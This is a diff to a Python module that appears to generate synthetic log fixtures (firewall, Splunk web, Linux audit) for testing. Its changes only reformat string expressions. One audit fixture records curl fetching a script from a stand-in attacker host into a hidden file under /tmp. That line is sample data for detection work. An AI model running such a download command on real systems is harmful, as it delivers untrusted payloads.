@@ -96,8 +96,8 @@ def _pfsense() -> bytes:
 @kind("Windows Firewall log", "pfirewall.log", *SCAN, held=True)
 def _pfirewall() -> bytes:
     head = ["#Version: 1.5", "#Software: Microsoft Windows Firewall", "#Time Format: Local",
-            "#Fields: date time action protocol src-ip dst-ip src-port dst-port size tcpflags tcpsyn tcpack tcpwin "
-            "icmptype icmpcode info path pid", ""]  # fmt: skip
+            ("#Fields: date time action protocol src-ip dst-ip src-port dst-port size tcpflags tcpsyn tcpack tcpwin "
+             "icmptype icmpcode info path pid"), ""]  # fmt: skip
     rows = (
         f"{plain(s)} {'ALLOW' if ok else 'DROP'} TCP {src} {dst} {sport} {port} 0 - 0 0 0 - - - RECEIVE 4"
         for s, src, sport, dst, port, ok in connections()
@@ -236,8 +236,8 @@ def _zeek_http() -> bytes:
 @kind("Splunk table of web lines", "web.csv", *WEB, held=True)
 def _splunk_web() -> bytes:
     rows = (
-        (iso(s), "www", f'{client} - - [{at(s):%d/%b/%Y:%H:%M:%S} +0000] "{method} {target} HTTP/1.1" {status} 512 "-" '
-         f'"{agent}"')
+        (iso(s), "www", (f'{client} - - [{at(s):%d/%b/%Y:%H:%M:%S} +0000] "{method} {target} HTTP/1.1" {status} 512 "-" '
+         f'"{agent}"'))
         for s, client, method, target, status, agent in requests()
     )  # fmt: skip
     return table(["_time", "host", "_raw"], rows)
@@ -397,7 +397,7 @@ def _enriched_audit() -> bytes:
         head = f"msg=audit({at(number).timestamp():.3f}:{100 + number}):"
         argument = "http://evil.example/x.sh" if number == 5 else "/etc/motd"
         rows.append(
-            f'type=SYSCALL {head} arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid={number} auid=1000 uid=0 '
+            f"type=SYSCALL {head} arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid={number} auid=1000 uid=0 "
             f'comm="curl" exe="/usr/bin/curl" key="exec"\x1dARCH=x86_64 SYSCALL=execve AUID="dev" UID="root"'
         )
         rows.append(f'type=EXECVE {head} argc=4 a0="curl" a1="-o" a2="/tmp/.x.sh" a3="{argument}"')
